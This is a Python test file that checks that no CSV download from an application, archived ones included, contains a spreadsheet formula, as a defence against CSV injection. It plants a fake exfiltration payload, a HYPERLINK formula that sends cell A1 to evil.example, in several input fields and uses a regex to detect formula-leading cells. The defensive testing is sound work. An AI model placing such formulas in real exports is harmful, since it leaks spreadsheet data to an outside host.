"""No cell of any table that can be downloaded is a formula, whoever wrote what stands in it (OWASP, CSV injection)."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from fastapi.testclient import TestClient

from adapters.resources import Resources
from api.authority import ROUTES
from api.console.authority import ROUTES as CONSOLE
from domain.events import Tag
from domain.rights import Role
from tests.activities.package_case import SearchedCase
from tests.at_console import AtConsole
from tests.case_in_hand import CaseInHand
from tests.local_day import this_month

SignIn = Callable[..., AtConsole]
Key = Callable[..., dict[str, str]]
ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("https://evil.example/?"&A1)'
FORMULA = re.compile(r"\s*[=+@\t\r\uff1d\uff0b\uff0d\uff20]|\s*-(?![\d.]+$)")
REPORTS = ("answered-by-month", "answered-by-right", "open-by-stage", "open-by-right", "open-by-move")
# Each is written by a function that guards its cells, or holds counts and code words alone.
WRITERS = {"adapters/row_text.py", "activities/package_data.py", "domain/clock_figures.py", "domain/deadline_report.py"}


def tables(content: bytes, name: str) -> Iterator[tuple[str, str]]:
    """Every CSV file in a download, archives inside it included."""
    if content[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(content)) as zipped:
            for member in zipped.namelist():
                if member.endswith((".csv", ".zip")):
                    yield from tables(zipped.read(member), member)
    else:
        yield name, content.decode()


def test_no_download_holds_a_formula(
    at_console: SignIn, web: TestClient, key: Key, resources: Resources, searched: SearchedCase
) -> None:
    person, headers = at_console(Role.PRIVACY_LEAD, EVIL), key(Role.PRIVACY_LEAD, name="lea")
    case = CaseInHand(resources, name=EVIL, message=EVIL)
    case.released()
    case.done_by(person.person, Tag.MESSAGE_RECEIVED, note=str(case.note(EVIL, person.person)))
    breach = web.post("/api/v1/breaches", json={"summary": EVIL, "affected": {"GB": 2}}, headers=headers).json()["reference"]
    web.post(f"/api/v1/breaches/{breach}/actions/dismiss", json={"reason": EVIL}, headers=headers)
    notice = web.post("/api/v1/notices", json={"title": EVIL, "purpose": "breach"}, headers=headers).json()["reference"]
    month = this_month(resources)
    found: dict[str, bytes] = {
        "pack": person.post(f"/console/cases/{case.reference}/evidence").content,
        "period": person.post("/console/reports/evidence", {"from": month, "to": month}).content,
    }
    api = [f"/api/v1{path}" for method, path in ROUTES if method == "GET"]
    console = [path for method, path in CONSOLE if method == "GET"]
    for rule in (each for each in (*api, *console) if each.endswith(".csv")):
        for name in REPORTS if "{name}" in rule else ("",):
            reference = f"HAB-{searched.id.hex[:8].upper()}" if "schedule" in rule else case.reference
            reference = notice if "/notices/" in rule else reference
            address = rule.replace("{reference}", reference).replace("{name}", name)
            answer = web.get(address, headers=headers) if rule in api else person.get(address)
            assert answer.status_code == 200, address
            found[address] = answer.content
    cells = [
        (name, cell)
        for download, content in found.items()
        for name, text in tables(content, download)
        for row in csv.reader(io.StringIO(text))
        for cell in row
    ]
    assert not [one for one in cells if FORMULA.match(one[1])]
    told = {name.rpartition("/")[2] for name, cell in cells if "HYPERLINK" in cell}
    assert told >= {"events.csv", "register.csv"}, "what was planted is in none of them: this test shows nothing"


def test_every_table_is_written_by_what_guards_its_cells() -> None:
    places = [path for room in ("adapters", "activities", "api", "domain", "workflows") for path in (ROOT / room).rglob("*.py")]
    found = {str(path.relative_to(ROOT)) for path in places if re.search(r"csv\.(?:Dict)?[wW]riter", path.read_text("utf-8"))}
    assert found == WRITERS
